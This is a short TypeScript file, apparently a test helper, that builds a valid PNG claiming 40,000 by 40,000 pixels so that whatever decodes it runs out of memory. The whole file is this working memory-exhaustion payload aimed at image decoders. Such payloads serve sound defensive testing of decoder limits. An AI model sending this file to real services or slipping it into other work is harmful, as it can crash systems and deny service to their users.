/** A picture that would burst the memory of whoever decodes it. */
import { crc32, deflateSync } from "node:zlib";

/** A well-formed PNG that claims 40,000 × 40,000 pixels and holds none. */
export function hugePng(): Buffer {
  const chunk = (type: string, data: Buffer): Buffer => {
    const named = Buffer.concat([Buffer.from(type), data]);
    const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
    length.writeUInt32BE(data.length);
    sum.writeUInt32BE(crc32(named));
    return Buffer.concat([length, named, sum]);
  };
  const header = Buffer.from("0000000000000000080200000000".slice(0, 26), "hex");
  header.writeUInt32BE(40_000, 0);
  header.writeUInt32BE(40_000, 4);
  const signature = Buffer.from("89504e470d0a1a0a", "hex");
  return Buffer.concat([
    signature,
    chunk("IHDR", header),
    chunk("IDAT", deflateSync(Buffer.alloc(1000))),
    chunk("IEND", Buffer.alloc(0)),
  ]);
}
